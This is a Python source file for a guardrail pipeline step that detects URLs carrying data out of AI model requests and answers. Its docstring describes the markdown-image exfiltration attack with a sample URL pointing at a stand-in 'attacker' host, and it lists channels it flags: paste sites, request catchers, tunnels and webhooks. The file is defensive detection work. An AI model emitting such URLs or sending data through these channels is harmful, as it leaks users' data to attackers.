"""check_exfiltration (alias detect_exfiltration): blocks URLs that would carry data out.

Before the call it scans the request's user, tool and system text; after it, the answer's
content and tool-call arguments, where the classic attack lives: a markdown image
`![x](https://attacker/?q=<data>)` that the client fetches as soon as it renders the
answer. Reported: paste sites, request catchers and tunnels, file drops, chat webhooks,
DNS-tunnel-like hosts, data in query strings (long encoded values, secrets, e-mail
addresses, placeholders), images with query strings, and, when `allowed_domains` is set,
every URL outside it. A URL on an allowed domain (or a subdomain of one) is never reported:
"add the URL to the allowed domains in the pipeline config" is the fix for a false
positive, either as this step's option or as
`overrides.categories.exfiltration_protection.allowed_domains`. Blocks at the
sensitivity's score (`low` 0.9, `medium` 0.75, `high` 0.5).
"""

from __future__ import annotations

from typing import Any

from tappass.detect.scan import Detector
from tappass.detect.threats.exfiltration import exfiltration_detector
from tappass.pipeline.options import ExfiltrationOptions
from tappass.pipeline.steps._threat_detection import ThreatStep


class CheckExfiltration(ThreatStep):
    id = "check_exfiltration"
    what = "data exfiltration"

    Options = ExfiltrationOptions

    def detector(self, options: Any) -> tuple[str, Detector]:
        domains = tuple(sorted(options.allowed_domains))
        return f"exfiltration:{','.join(domains)}", exfiltration_detector(domains)

    def floor(self, role: str) -> float | None:
        return self.threshold   # the history's assistant turns too: an image rendered earlier
